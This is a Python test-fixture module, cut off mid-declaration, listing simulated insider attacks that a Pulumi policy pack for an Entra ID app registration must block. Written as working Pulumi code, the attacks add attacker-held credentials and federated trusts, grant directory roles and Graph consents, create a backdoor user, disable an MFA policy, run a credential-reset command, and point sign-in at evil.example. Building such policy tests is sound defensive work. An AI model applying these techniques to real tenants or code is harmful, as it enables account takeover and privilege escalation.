"""Attacks on the policy pack, as someone with commit access would write them (issue #8).

Each attack is a realistic change: resources declared in the program next to the component (in
the stack, or inside the component with ``parent=app``), inputs changed by a stack
transformation, decoys, values unknown during a preview. ``attacked_program.py`` runs the real
``__main__.py`` with one of them; ``test_policy_adversarial.py`` sends what it declared through
the real pack in preview and update modes, and each must end as a mandatory violation of the
policy named here.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any, Final

import pulumi
import pulumi.dynamic
import pulumi_azuread as azuread
import pulumiverse_time

from components.app_registration import AppRegistration
from entra_vocabulary import resource_types as types
from entra_vocabulary.clock import rfc3339, rotation_clock
from entra_vocabulary.manifests import GLOBAL_ADMINISTRATOR, USER_ADMINISTRATOR
from entra_vocabulary.microsoft_ids import (
    DIRECTORY_ROLE_TEMPLATE_IDS,
    MICROSOFT_GRAPH_APP_ID,
    PermissionType,
    graph_permission,
)
from entra_vocabulary.microsoft_ids import EXCHANGE_ONLINE_APP_ID as EXCHANGE_ONLINE
from mock_engine.engine import DEPLOYER_OBJECT_ID, GRAPH_OBJECT_ID, fake_guid
from tests.policies.bad_change import BadChange

ATTACKER: Final = fake_guid("attacker", "user")
"""The attacker's own user object id."""
ATTACKER_SERVICE_PRINCIPAL: Final = fake_guid("attacker", "service-principal")
ROLE_ASSIGNABLE_GROUP: Final = fake_guid("group", "tier-0-admins")
ADMINISTRATIVE_UNIT: Final = fake_guid("administrative-unit", "all-users")
ACTIVATED_ROLE: Final = fake_guid("directory-role", "global-administrator")
REAL_APPLICATION_OBJECT_ID: Final = fake_guid("application", "privilege-secure-application")
"""The component's application as the mocks create it: what an attacker reads in the portal."""
REAL_SERVICE_PRINCIPAL_OBJECT_ID: Final = fake_guid(
    "service-principal", "privilege-secure-service-principal"
)
GLOBAL_ADMINISTRATOR_ID: Final = DIRECTORY_ROLE_TEMPLATE_IDS[GLOBAL_ADMINISTRATOR]
USER_ADMINISTRATOR_ID: Final = DIRECTORY_ROLE_TEMPLATE_IDS[USER_ADMINISTRATOR]
PRIVILEGED_AUTHENTICATION_ADMINISTRATOR_ID: Final = DIRECTORY_ROLE_TEMPLATE_IDS[
    "Privileged Authentication Administrator"
]
DIRECTORY_READWRITE_ALL: Final = graph_permission(
    "Directory.ReadWrite.All", PermissionType.APPLICATION
).id
APPLICATION_READWRITE_ALL: Final = graph_permission(
    "Application.ReadWrite.All", PermissionType.APPLICATION
).id
AUTHENTICATION_METHODS_READWRITE_ALL: Final = graph_permission(
    "UserAuthenticationMethod.ReadWrite.All", PermissionType.APPLICATION
).id
"""26.03's permission to reset anyone's MFA (not in 4.1)."""
CERTIFICATE: Final = "-----BEGIN CERTIFICATE-----\nMIIBattackerOwnedKey\n-----END CERTIFICATE-----"
APPLICATION: Final = "privilege-secure-application"
"""Names of the program's own resources, where a violation lands on them."""
THIRD_SECRET: Final = "privilege-secure-client-secret-c"
"""A third client secret's name inside the component (the program's are ``-a`` and ``-b``)."""

AfterProgram = Callable[[AppRegistration], None]


def _nothing_after(app: AppRegistration) -> None:
    """No extra resources."""


def _nothing_before() -> None:
    """No transformation."""


@dataclass(frozen=True)
class Attack(BadChange):
    """One way to get more power or a sign-in, and the mandatory violation that stops it."""

    offenders: tuple[str, ...]
    """Names of the resources the violation may be reported on."""
    after: AfterProgram = _nothing_after
    before: Callable[[], None] = _nothing_before
    overrides: tuple[tuple[str, str], ...] = ()
    """Changed stack config, by short key."""
    pack_config: Mapping[str, object] = field(default_factory=dict)


DECLARED: Final[list[Attack]] = []
"""The attacks declared by ``attack`` right above the change they make (``ATTACKS`` adds those
that need no change of their own, only config)."""


def attack(
    id: str, policy: str, needle: str, offenders: tuple[str, ...], **options: Any
) -> Callable[[AfterProgram], AfterProgram]:
    """Declare the attack below and the mandatory violation that must stop it."""

    def register(after: AfterProgram) -> AfterProgram:
        DECLARED.append(Attack(id, policy, (needle,), offenders, after, **options))
        return after

    return register


_TYPES = "resource-types-allowlist"
_CREDENTIALS = "credentials-client-secrets-only"
_COUNT = "client-secret-count"
_PATHS = "directory-role-paths"
_RECIPIENTS = "grant-recipients"
_OWNERS = "owners-from-component"
_NOT_ONLY = "not (only) to the service principal of Application 'privilege-secure-application'"


def _soon() -> str:
    """An end date the expiry policy accepts (30 days from the program's clock)."""
    return rfc3339(rotation_clock() + timedelta(days=30))


def _application_id(app: AppRegistration) -> pulumi.Output[str]:
    """``/applications/{objectId}``, as azuread's ``application_id`` inputs take it."""
    return app.application_object_id.apply(lambda object_id: f"/applications/{object_id}")


def _service_principal_id(app: AppRegistration) -> pulumi.Output[str]:
    """``/servicePrincipals/{objectId}``, as ``service_principal_id`` inputs take it."""
    return app.service_principal_object_id.apply(
        lambda object_id: f"/servicePrincipals/{object_id}"
    )


def _inside(app: AppRegistration) -> pulumi.ResourceOptions:
    """Declared as a child of the component, as an edit of components/ would declare it."""
    return pulumi.ResourceOptions(parent=app)


def _decoy() -> azuread.Application:
    """An application that requests nothing: a harmless-looking place to move things to."""
    return azuread.Application("attack-decoy", display_name="Decoy")


def _decoy_service_principal() -> azuread.ServicePrincipal:
    """The decoy's service principal: a harmless-looking recipient of a consent."""
    return azuread.ServicePrincipal("attack-decoy-sp", client_id=_decoy().client_id)


def _third_secret(app: AppRegistration, application_id: pulumi.Input[str]) -> None:
    """A third client secret declared inside the component, on ``application_id``: each attack
    below disguises that link another way."""
    azuread.ApplicationPassword(
        THIRD_SECRET, application_id=application_id, end_date=_soon(), opts=_inside(app)
    )


def _a_third_secret_on_our_application(id: str) -> Callable[[AfterProgram], AfterProgram]:
    """Declare an attack adding ``THIRD_SECRET`` on our application, however disguised: the
    count must still find it there."""
    return attack(id, _COUNT, f"ApplicationPassword '{THIRD_SECRET}'", (APPLICATION, THIRD_SECRET))


def _permission(
    permission_id: str, kind: str = "Role"
) -> azuread.ApplicationRequiredResourceAccessResourceAccessArgs:
    """One requested permission: ``Role`` (application) or ``Scope`` (delegated)."""
    return azuread.ApplicationRequiredResourceAccessResourceAccessArgs(id=permission_id, type=kind)


def _from_graph(
    *permissions: azuread.ApplicationRequiredResourceAccessResourceAccessArgs,
) -> azuread.ApplicationRequiredResourceAccessArgs:
    """An application's request of these Microsoft Graph permissions."""
    return azuread.ApplicationRequiredResourceAccessArgs(
        resource_app_id=MICROSOFT_GRAPH_APP_ID, resource_accesses=list(permissions)
    )


def _type_not_allowed(
    id: str, type_token: str, name: str
) -> Callable[[AfterProgram], AfterProgram]:
    """Declare an attack declaring ``name``, of a type the pack does not judge otherwise: the
    types allowlist must refuse it."""
    return attack(id, _TYPES, f"resource type {type_token} is not allowed", (name,))


def _graph_consent(
    name: str,
    app_role_id: pulumi.Input[str],
    principal_object_id: pulumi.Input[str],
    opts: pulumi.ResourceOptions | None = None,
) -> None:
    """An admin consent: an app role assignment of a Microsoft Graph application permission."""
    azuread.AppRoleAssignment(
        name,
        app_role_id=app_role_id,
        principal_object_id=principal_object_id,
        resource_object_id=GRAPH_OBJECT_ID,
        opts=opts,
    )


def _directory_role(
    name: str,
    role_id: pulumi.Input[str],
    principal_object_id: pulumi.Input[str],
    opts: pulumi.ResourceOptions | None = None,
) -> None:
    """A directory role assignment, tenant-wide."""
    azuread.DirectoryRoleAssignment(
        name, role_id=role_id, principal_object_id=principal_object_id, opts=opts
    )


# --- every way to authenticate as the app -----------------------------------------------------


@attack(
    "application-certificate",
    _CREDENTIALS,
    "a certificate credential (ApplicationCertificate)",
    ("attack-certificate",),
)
def application_certificate(app: AppRegistration) -> None:
    azuread.ApplicationCertificate(
        "attack-certificate",
        application_id=_application_id(app),
        type="AsymmetricX509Cert",
        value=CERTIFICATE,
        end_date=_soon(),
    )


@attack(
    "service-principal-certificate",
    _CREDENTIALS,
    "a certificate credential (ServicePrincipalCertificate)",
    ("attack-sp-certificate",),
)
def service_principal_certificate(app: AppRegistration) -> None:
    azuread.ServicePrincipalCertificate(
        "attack-sp-certificate",
        service_principal_id=_service_principal_id(app),
        type="AsymmetricX509Cert",
        value=CERTIFICATE,
        end_date=_soon(),
        opts=_inside(app),
    )


@attack(
    "federated-identity-credential",
    _CREDENTIALS,
    "a federated identity credential (ApplicationFederatedIdentityCredential)",
    ("attack-federated",),
)
def federated_credential(app: AppRegistration) -> None:
    azuread.ApplicationFederatedIdentityCredential(
        "attack-federated",
        application_id=_application_id(app),
        display_name="deploy-from-fork",
        audiences=["api://AzureADTokenExchange"],
        issuer="https://token.actions.githubusercontent.com",
        subject="repo:attacker/fork:ref:refs/heads/main",
    )


@attack(
    "flexible-federated-identity-credential",
    _CREDENTIALS,
    "a federated identity credential (ApplicationFlexibleFederatedIdentityCredential)",
    ("attack-flexible-federated",),
)
def flexible_federated_credential(app: AppRegistration) -> None:
    azuread.ApplicationFlexibleFederatedIdentityCredential(
        "attack-flexible-federated",
        application_id=_application_id(app),
        display_name="any-branch",
        audience="api://AzureADTokenExchange",
        issuer="https://token.actions.githubusercontent.com",
        claims_matching_expression="claims['sub'] matches 'repo:attacker/*'",
        opts=_inside(app),
    )


@attack(
    "service-principal-password",
    _CREDENTIALS,
    "a password credential (ServicePrincipalPassword)",
    ("attack-sp-password",),
)
def service_principal_password(app: AppRegistration) -> None:
    azuread.ServicePrincipalPassword(
        "attack-sp-password", service_principal_id=_service_principal_id(app), end_date=_soon()
    )


@attack(
    "token-signing-certificate",
    _CREDENTIALS,
    "a certificate credential (ServicePrincipalTokenSigningCertificate)",
    ("attack-token-signing",),
)
def token_signing_certificate(app: AppRegistration) -> None:
    azuread.ServicePrincipalTokenSigningCertificate(
        "attack-token-signing",
        service_principal_id=_service_principal_id(app),
        end_date=_soon(),
    )


def _same_inputs(props: dict[str, Any]) -> None:
    """No input changed."""


def _transform(
    type_token: str,
    edit: Callable[[dict[str, Any]], None] = _same_inputs,
    options: pulumi.ResourceOptions | None = None,
) -> Callable[[], None]:
    """A stack transformation editing every resource of one type: changed inputs (or resource
    options merged in), as an edit of the component would make them."""

    def transformation(
        args: pulumi.ResourceTransformationArgs,
    ) -> pulumi.ResourceTransformationResult | None:
        if args.type_ != type_token:
            return None
        props = dict(args.props)
        edit(props)
        opts = args.opts if options is None else pulumi.ResourceOptions.merge(args.opts, options)
        return pulumi.ResourceTransformationResult(props, opts)

    def before() -> None:
        pulumi.runtime.register_stack_transformation(transformation)

    return before


def _inline_password(props: dict[str, Any]) -> None:
    props["password"] = azuread.ApplicationPasswordArgs(display_name="ops", end_date=_soon())


def _far_end_date(props: dict[str, Any]) -> None:
    props["end_date"] = rfc3339(rotation_clock() + timedelta(days=5 * 365))


def _multi_tenant(props: dict[str, Any]) -> None:
    props["sign_in_audience"] = "AzureADMultipleOrgs"


@attack(
    "client-secret-outside-the-component",
    "declared-by-the-component",
    "ApplicationPassword declared outside the privilegesecure:index:AppRegistration",
    ("attack-secret",),
)
def secret_outside_component(app: AppRegistration) -> None:
    azuread.ApplicationPassword(
        "attack-secret", application_id=_application_id(app), end_date=_soon()
    )


@attack(
    "third-client-secret-in-the-component",
    _COUNT,
    "has 3 client secrets",
    (APPLICATION,),
)
def third_secret_in_component(app: AppRegistration) -> None:
    _third_secret(app, _application_id(app))


@_a_third_secret_on_our_application("secret-linked-through-a-decoy")
def secret_linked_through_a_decoy(app: AppRegistration) -> None:
    """The secret's id is computed from a decoy and the real app: its dependency records name
    the decoy too, its value is the real app's."""
    decoy = _decoy()
    _third_secret(
        app, pulumi.Output.all(decoy.id, _application_id(app)).apply(lambda ids: str(ids[1]))
    )


@_a_third_secret_on_our_application("secret-by-the-app-id-copied-from-the-portal")
def secret_by_literal_id(app: AppRegistration) -> None:
    """The app's object id copied from the portal: no dependency record at all."""
    _third_secret(app, f"/applications/{REAL_APPLICATION_OBJECT_ID}")


# --- who receives a grant ---------------------------------------------------------------------


@attack(
    "consent-to-a-decoy-service-principal",
    _RECIPIENTS,
    "grants to ServicePrincipal 'attack-decoy-sp'",
    ("attack-decoy-consent",),
)
def consent_to_a_decoy(app: AppRegistration) -> None:
    _graph_consent(
        "attack-decoy-consent", DIRECTORY_READWRITE_ALL, _decoy_service_principal().object_id
    )


@attack(
    "consent-to-a-literal-principal",
    _RECIPIENTS,
    f"grants to principal {ATTACKER_SERVICE_PRINCIPAL} (principalObjectId), {_NOT_ONLY}",
    ("privilege-secure-consent-extra",),
)
def consent_to_a_literal_principal(app: AppRegistration) -> None:
    _graph_consent(
        "privilege-secure-consent-extra",
        DIRECTORY_READWRITE_ALL,
        ATTACKER_SERVICE_PRINCIPAL,
        _inside(app),
    )


@attack(
    "delegated-grant-to-another-principal",
    _RECIPIENTS,
    f"grants to principal {ATTACKER_SERVICE_PRINCIPAL} (servicePrincipalObjectId)",
    ("attack-delegated",),
)
def delegated_grant_to_another_principal(app: AppRegistration) -> None:
    azuread.ServicePrincipalDelegatedPermissionGrant(
        "attack-delegated",
        service_principal_object_id=ATTACKER_SERVICE_PRINCIPAL,
        resource_service_principal_object_id=GRAPH_OBJECT_ID,
        claim_values=["User.Read"],
    )


@attack(
    "directory-role-to-the-attacker",
    _RECIPIENTS,
    f"grants to principal {ATTACKER} (principalObjectId)",
    ("attack-role-for-me",),
)
def directory_role_to_a_user(app: AppRegistration) -> None:
    _directory_role("attack-role-for-me", USER_ADMINISTRATOR_ID, ATTACKER, _inside(app))


@attack(
    "second-privileged-application",
    _RECIPIENTS,
    "2 applications request or hold Privilege Secure's permissions",
    ("attack-second-app",),
)
def second_privileged_application(app: AppRegistration) -> None:
    azuread.Application(
        "attack-second-app",
        display_name="Helper",
        required_resource_accesses=[_from_graph(_permission(DIRECTORY_READWRITE_ALL))],
    )


# --- every path to a directory role -----------------------------------------------------------


@attack(
    "directory-role-eligibility",
    _PATHS,
    "DirectoryRoleEligibilityScheduleRequest makes a principal eligible",
    ("attack-eligible",),
)
def role_eligibility(app: AppRegistration) -> None:
    azuread.DirectoryRoleEligibilityScheduleRequest(
        "attack-eligible",
        role_definition_id=USER_ADMINISTRATOR_ID,
        principal_id=app.service_principal_object_id,
        directory_scope_id="/",
        justification="standby",
        opts=_inside(app),
    )


@attack(
    "directory-role-member",
    _PATHS,
    "DirectoryRoleMember adds a member to a directory role",
    ("attack-role-member",),
)
def directory_role_member(app: AppRegistration) -> None:
    azuread.DirectoryRoleMember(
        "attack-role-member",
        role_object_id=ACTIVATED_ROLE,
        member_object_id=app.service_principal_object_id,
    )


@attack(
    "administrative-unit-role-member",
    _PATHS,
    "AdministrativeUnitRoleMember adds a member",
    ("attack-au-role-member",),
)
def administrative_unit_role_member(app: AppRegistration) -> None:
    azuread.AdministrativeUnitRoleMember(
        "attack-au-role-member",
        administrative_unit_object_id=ADMINISTRATIVE_UNIT,
        role_object_id=ACTIVATED_ROLE,
        member_object_id=app.service_principal_object_id,
    )


@attack(
    "group-member",
    _PATHS,
    "GroupMember adds a member to a group",
    ("attack-group-member",),
)
def group_member(app: AppRegistration) -> None:
    azuread.GroupMember(
        "attack-group-member",
        group_object_id=ROLE_ASSIGNABLE_GROUP,
        member_object_id=app.service_principal_object_id,
    )


@attack(
    "role-assignable-group-with-the-app",
    _PATHS,
    "Group members is set",
    ("attack-group",),
)
def role_assignable_group(app: AppRegistration) -> None:
    azuread.Group(
        "attack-group",
        display_name="Tier-0 helpers",
        security_enabled=True,
        assignable_to_role=True,
        members=[app.service_principal_object_id],
    )


@attack(
    "pim-group-assignment",
    _PATHS,
    "PrivilegedAccessGroupAssignmentSchedule assigns group membership",
    ("attack-pim-assignment",),
)
def pim_group_assignment(app: AppRegistration) -> None:
    azuread.PrivilegedAccessGroupAssignmentSchedule(
        "attack-pim-assignment",
        group_id=ROLE_ASSIGNABLE_GROUP,
        principal_id=app.service_principal_object_id,
        assignment_type="member",
        permanent_assignment=True,
    )


@attack(
    "pim-group-eligibility",
    _PATHS,
    "PrivilegedAccessGroupEligibilitySchedule makes a principal eligible",
    ("attack-pim-eligibility",),
)
def pim_group_eligibility(app: AppRegistration) -> None:
    azuread.PrivilegedAccessGroupEligibilitySchedule(
        "attack-pim-eligibility",
        group_id=ROLE_ASSIGNABLE_GROUP,
        principal_id=app.service_principal_object_id,
        assignment_type="owner",
        permanent_assignment=True,
    )


@attack(
    "global-administrator-inside-the-component",
    "directory-role-allowlist",
    f"directory role Global Administrator ({GLOBAL_ADMINISTRATOR_ID})",
    ("privilege-secure-role-global-administrator",),
)
def global_administrator_in_component(app: AppRegistration) -> None:
    _directory_role(
        "privilege-secure-role-global-administrator",
        GLOBAL_ADMINISTRATOR_ID,
        app.service_principal_object_id,
        _inside(app),
    )


@attack(
    "role-id-unknown-during-preview",
    "directory-role-allowlist",
    "roleId",
    ("privilege-secure-role-extra",),
)
def role_id_unknown_in_preview(app: AppRegistration) -> None:
    """The role id comes out of another resource's output: unknown during the preview."""
    _directory_role(
        "privilege-secure-role-extra",
        _decoy().client_id.apply(lambda _: GLOBAL_ADMINISTRATOR_ID),
        app.service_principal_object_id,
        _inside(app),
    )


@attack(
    "app-role-id-unknown-during-preview",
    "graph-application-permissions-allowlist",
    "appRoleId",
    ("privilege-secure-consent-extra",),
)
def app_role_unknown_in_preview(app: AppRegistration) -> None:
    _graph_consent(
        "privilege-secure-consent-extra",
        _decoy().client_id.apply(lambda _: APPLICATION_READWRITE_ALL),
        app.service_principal_object_id,
        _inside(app),
    )


# --- ownership --------------------------------------------------------------------------------


@attack(
    "application-owner",
    _OWNERS,
    f"ApplicationOwner adds owner {ATTACKER} outside the component's owners",
    ("attack-owner",),
)
def application_owner(app: AppRegistration) -> None:
    azuread.ApplicationOwner(
        "attack-owner", application_id=_application_id(app), owner_object_id=ATTACKER
    )


@attack(
    "adopted-service-principal-with-owners",
    _OWNERS,
    "useExisting is true",
    ("attack-adopted-sp",),
)
def adopted_service_principal(app: AppRegistration) -> None:
    azuread.ServicePrincipal(
        "attack-adopted-sp", client_id=app.client_id, use_existing=True, owners=[ATTACKER]
    )


# --- resource types the pack does not otherwise judge -----------------------------------------


class _GraphCaller(pulumi.dynamic.ResourceProvider):
    """Could call Microsoft Graph with the deployer's token: nothing the pack can read."""

    def create(self, props: Any) -> pulumi.dynamic.CreateResult:
        return pulumi.dynamic.CreateResult(id_="done", outs={})


class _GraphCall(pulumi.dynamic.Resource):
    """A dynamic resource, declared the way the Pulumi docs show."""

    def __init__(self, name: str, target: pulumi.Input[str]) -> None:
        super().__init__(_GraphCaller(), name, {"target": target})


@_type_not_allowed("dynamic-provider", "pulumi-python:dynamic:Resource", "attack-dynamic")
def dynamic_provider(app: AppRegistration) -> None:
    _GraphCall("attack-dynamic", app.client_id)


@_type_not_allowed("foreign-component", "backdoor:index:Helper", "attack-helper")
def foreign_component(app: AppRegistration) -> None:
    pulumi.ComponentResource("backdoor:index:Helper", "attack-helper")


@_type_not_allowed("other-providers-resource", "command:local:Command", "attack-command")
def other_provider(app: AppRegistration) -> None:
    pulumi.CustomResource(
        "command:local:Command",
        "attack-command",
        {"create": app.client_id.apply(lambda c: f"az ad app credential reset --id {c}")},
    )


@_type_not_allowed("backdoor-user", "azuread:index/user:User", "attack-user")
def backdoor_user(app: AppRegistration) -> None:
    azuread.User(
        "attack-user",
        user_principal_name="helpdesk@contoso.onmicrosoft.com",
        display_name="Helpdesk",
        password="Attacker-Chosen-1!",
    )


@_type_not_allowed(
    "custom-directory-role",
    "azuread:index/customDirectoryRole:CustomDirectoryRole",
    "attack-custom-role",
)
def custom_directory_role(app: AppRegistration) -> None:
    azuread.CustomDirectoryRole(
        "attack-custom-role",
        display_name="Credential writer",
        enabled=True,
        version="1.0",
        permissions=[
            azuread.CustomDirectoryRolePermissionArgs(
                allowed_resource_actions=["microsoft.directory/applications/credentials/update"]
            )
        ],
    )


@_type_not_allowed(
    "application-registration",
    "azuread:index/applicationRegistration:ApplicationRegistration",
    "attack-registration",
)
def application_registration(app: AppRegistration) -> None:
    azuread.ApplicationRegistration("attack-registration", display_name="Second door")


@_type_not_allowed(
    "synchronization-secret",
    "azuread:index/synchronizationSecret:SynchronizationSecret",
    "attack-sync-secret",
)
def synchronization_secret(app: AppRegistration) -> None:
    azuread.SynchronizationSecret(
        "attack-sync-secret",
        service_principal_id=_service_principal_id(app),
        credentials=[azuread.SynchronizationSecretCredentialArgs(key="SecretToken", value="x")],
    )


# --- red team round 1 (/work/redteam/attacks-round1.md) ---------------------------------------


@_a_third_secret_on_our_application("rt06-secret-moved-by-a-decoy-dependency")
def secret_moved_by_a_decoy_dependency(app: AppRegistration) -> None:
    """RT-06: the dependency record names only the decoy, the value is the real app's id."""
    decoy = _decoy()
    _third_secret(app, decoy.id.apply(lambda _: f"/applications/{REAL_APPLICATION_OBJECT_ID}"))


@_a_third_secret_on_our_application("rt07-secret-with-its-dependencies-stripped")
def secret_with_its_dependencies_stripped(app: AppRegistration) -> None:
    """RT-07: an ``Output`` rebuilt without its resources: unknown in a preview, linked to
    nothing."""
    tick = azuread.Application("attack-tick", display_name="tick")
    mixed = pulumi.Output.all(_application_id(app), tick.id).apply(lambda ids: str(ids[0]))
    stripped: pulumi.Output[str] = pulumi.Output(
        set(),
        mixed.future(),  # type: ignore[arg-type]  # the public constructor, as RT-07 uses it
        mixed.is_known(),
        mixed.is_secret(),
    )
    _third_secret(app, stripped)


@attack(
    "rt46-secret-on-the-deployers-application",
    _COUNT,
    "which is no application or service principal of this stack",
    (THIRD_SECRET,),
)
def secret_on_the_deployers_application(app: AppRegistration) -> None:
    """RT-46: a static secret on another application of the tenant (the deployer's)."""
    _third_secret(app, f"/applications/{fake_guid('application', 'deployer')}")


@attack(
    "rt08-password-on-exchange-online",
    _CREDENTIALS,
    "a password credential (ServicePrincipalPassword)",
    ("attack-exchange-password",),
)
def password_on_exchange_online(app: AppRegistration) -> None:
    """RT-08: a password on a Microsoft first-party service principal outside the stack."""
    azuread.ServicePrincipalPassword(
        "attack-exchange-password",
        service_principal_id=f"/servicePrincipals/{fake_guid('service-principal', 'exchange')}",
        end_date=_soon(),
    )


def _single_sign_on(props: dict[str, Any]) -> None:
    props["preferred_single_sign_on_mode"] = "saml"
    props["login_url"] = "https://evil.example/login"


def _exposed_api(props: dict[str, Any]) -> None:
    props["api"] = azuread.ApplicationApiArgs(
        oauth2_permission_scopes=[
            azuread.ApplicationApiOauth2PermissionScopeArgs(
                id=fake_guid("scope", "impersonate"),
                value="user_impersonation",
                admin_consent_description="x",
                admin_consent_display_name="x",
            )
        ]
    )


def _lower_case_role_type(props: dict[str, Any]) -> None:
    """RT-51: ``role`` instead of ``Role``: invisible to a check that compares exactly."""
    props["required_resource_accesses"] = [
        *props["required_resource_accesses"],
        _from_graph(_permission(APPLICATION_READWRITE_ALL, "role")),
    ]


@attack(
    "rt22-role-to-a-user-the-change-creates",
    _RECIPIENTS,
    "DirectoryRoleAssignment 'attack-role-for-user'",
    ("attack-role-for-user",),
)
def role_to_a_user_of_the_stack(app: AppRegistration) -> None:
    """RT-22: an allowed role to a user the same change creates."""
    user = azuread.User(
        "attack-backup-user",
        user_principal_name="svc-backup@contoso.onmicrosoft.com",
        display_name="svc backup",
        password="Attacker-Known-1!",
    )
    _directory_role(
        "attack-role-for-user", PRIVILEGED_AUTHENTICATION_ADMINISTRATOR_ID, user.object_id
    )


@attack(
    "rt45-role-to-the-deployer",
    _RECIPIENTS,
    f"grants to principal {DEPLOYER_OBJECT_ID} (principalObjectId)",
    ("attack-role-for-deployer",),
)
def role_to_the_deployer(app: AppRegistration) -> None:
    """RT-45: the deployer grants itself an allowed role."""
    me = azuread.get_client_config_output()
    _directory_role(
        "attack-role-for-deployer", PRIVILEGED_AUTHENTICATION_ADMINISTRATOR_ID, me.object_id
    )


@attack(
    "rt36-consent-moved-by-a-decoy-dependency",
    "consent-matches-request",
    "UserAuthenticationMethod.ReadWrite.All",
    ("attack-mfa",),
)
def consent_moved_by_a_decoy_dependency(app: AppRegistration) -> None:
    """RT-36: the dependency says decoy, the value is the real service principal."""
    _graph_consent(
        "attack-mfa",
        AUTHENTICATION_METHODS_READWRITE_ALL,
        _decoy_service_principal().object_id.apply(lambda _: REAL_SERVICE_PRINCIPAL_OBJECT_ID),
    )


@attack(
    "rt48-provider-signed-in-as-the-app",
    _CREDENTIALS,
    "an explicit provider that chooses whom it signs in as (clientId, clientSecret)",
    ("attack-tier0",),
)
def provider_signed_in_as_the_app(app: AppRegistration) -> None:
    """RT-48: resources declared through a provider that signs in with the app's own secret."""
    azuread.Provider(
        "attack-tier0",
        tenant_id=app.tenant_id,
        client_id=app.client_id,
        client_secret=app.client_secret,
    )


def _manifest_mix(props: dict[str, Any]) -> None:
    """RT-15: a 4.1 app that also requests 26.03's UserAuthenticationMethod.ReadWrite.All."""
    requested = props["required_resource_accesses"][0].resource_accesses
    props["required_resource_accesses"] = [
        _from_graph(*requested, _permission(AUTHENTICATION_METHODS_READWRITE_ALL))
    ]


@attack(
    "rt15-role-of-the-other-manifest",
    "single-manifest",
    "4.1 does not have Privileged Authentication Administrator",
    (APPLICATION,),
)
def privileged_authentication_administrator(app: AppRegistration) -> None:
    """RT-15: an allowed role, but of the other manifest: it resets Global Administrators."""
    _directory_role(
        "privilege-secure-role-privileged-authentication-administrator",
        PRIVILEGED_AUTHENTICATION_ADMINISTRATOR_ID,
        app.service_principal_object_id,
        _inside(app),
    )


AZURE_AD_GRAPH_OBJECT_ID: Final = fake_guid("service-principal", "azure-ad-graph")


@attack(
    "rt19-consent-to-another-api",
    _RECIPIENTS,
    f"consents to {AZURE_AD_GRAPH_OBJECT_ID}, not to the resource service principal",
    ("privilege-secure-consent-delegated-aad",),
)
def consent_to_another_api(app: AppRegistration) -> None:
    """RT-19: Azure AD Graph's ``User.Read``, which the allowlists would read as Graph's."""
    azuread.ServicePrincipalDelegatedPermissionGrant(
        "privilege-secure-consent-delegated-aad",
        service_principal_object_id=app.service_principal_object_id,
        resource_service_principal_object_id=AZURE_AD_GRAPH_OBJECT_ID,
        claim_values=["User.Read"],
        opts=_inside(app),
    )


@attack(
    "managed-exchange-online-service-principal",
    "graph-service-principal-not-managed",
    f"clientId {EXCHANGE_ONLINE} is Office 365 Exchange Online",
    ("attack-exchange",),
)
def managed_exchange_online(app: AppRegistration) -> None:
    """Adopt Microsoft's Exchange Online service principal (a destroy deletes it tenant-wide)."""
    azuread.ServicePrincipal("attack-exchange", client_id=EXCHANGE_ONLINE, use_existing=True)


@_type_not_allowed(
    "rt26-application-from-template",
    "azuread:index/applicationFromTemplate:ApplicationFromTemplate",
    "attack-from-template",
)
def application_from_template(app: AppRegistration) -> None:
    """RT-26: a twin app whose service principal the template creates implicitly."""
    azuread.ApplicationFromTemplate(
        "attack-from-template",
        display_name="Ops",
        template_id="8adf8e6e-67b2-4cf2-a259-e3dc5476c621",
    )


@_type_not_allowed(
    "rt30-conditional-access-switched-off",
    "azuread:index/conditionalAccessPolicy:ConditionalAccessPolicy",
    "attack-ca",
)
def conditional_access_off(app: AppRegistration) -> None:
    """RT-30: the control that would stop a takeover's sign-ins, switched off."""
    azuread.ConditionalAccessPolicy(
        "attack-ca",
        display_name="Require MFA (paused)",
        state="disabled",
        conditions=azuread.ConditionalAccessPolicyConditionsArgs(
            client_app_types=["all"],
            applications=azuread.ConditionalAccessPolicyConditionsApplicationsArgs(
                included_applications=["All"]
            ),
            users=azuread.ConditionalAccessPolicyConditionsUsersArgs(included_users=["All"]),
        ),
        grant_controls=azuread.ConditionalAccessPolicyGrantControlsArgs(
            operator="OR", built_in_controls=["mfa"]
        ),
    )


@_type_not_allowed(
    "rt29-access-package-catalog",
    "azuread:index/accessPackageCatalog:AccessPackageCatalog",
    "attack-catalog",
)
def access_package_catalog(app: AppRegistration) -> None:
    """RT-29: entitlement management, a path to a privileged group."""
    azuread.AccessPackageCatalog("attack-catalog", display_name="c", description="c")


@attack(
    "r2-01-consent-laundered-through-an-unknown",
    _RECIPIENTS,
    "AppRoleAssignment 'privilege-secure-consent-laundered'",
    ("privilege-secure-consent-laundered",),
)
def consent_laundered_through_an_unknown(app: AppRegistration) -> None:
    """R2-01: the recipient is unknown in a preview and "depends on" our service principal (and a
    Sleep); at `pulumi up` it is the attacker's service principal."""
    tick = pulumiverse_time.Sleep("tick", create_duration="1s")
    _graph_consent(
        "privilege-secure-consent-laundered",
        graph_permission("RoleManagement.ReadWrite.Directory", PermissionType.APPLICATION).id,
        pulumi.Output.all(app.service_principal_object_id, tick.id).apply(
            lambda _: ATTACKER_SERVICE_PRINCIPAL
        ),
        _inside(app),
    )


@_a_third_secret_on_our_application("r2-01c-secret-laundered-through-a-decoy-of-the-component")
def secret_laundered_through_a_decoy_of_the_component(app: AppRegistration) -> None:
    """R2-01c: a decoy application inside the component, a Sleep, the real app at `pulumi up`."""
    decoy = azuread.Application(
        "privilege-secure-application-metadata", display_name="PS metadata", opts=_inside(app)
    )
    tick = pulumiverse_time.Sleep("tick", create_duration="1s")
    _third_secret(
        app,
        pulumi.Output.all(decoy.id, tick.id).apply(
            lambda _: f"/applications/{REAL_APPLICATION_OBJECT_ID}"
        ),
    )


@attack(
    "r2-10-twin-service-principal-importing-ours",
    "component-shape",
    "ServicePrincipal 'privilege-secure-service-principal-v2'",
    ("privilege-secure-service-principal-v2", "privilege-secure-service-principal"),
)
def twin_service_principal_importing_ours(app: AppRegistration) -> None:
    """R2-10: a twin that imports our service principal (imports skip the resource policies)
    and rewrites its owners."""
    azuread.ServicePrincipal(
        "privilege-secure-service-principal-v2",
        client_id=app.client_id,
        owners=[ATTACKER],
        opts=pulumi.ResourceOptions(
            parent=app, import_=f"/servicePrincipals/{REAL_SERVICE_PRINCIPAL_OBJECT_ID}"
        ),
    )


@attack(
    "r2-10b-imported-exchange-online",
    "component-shape",
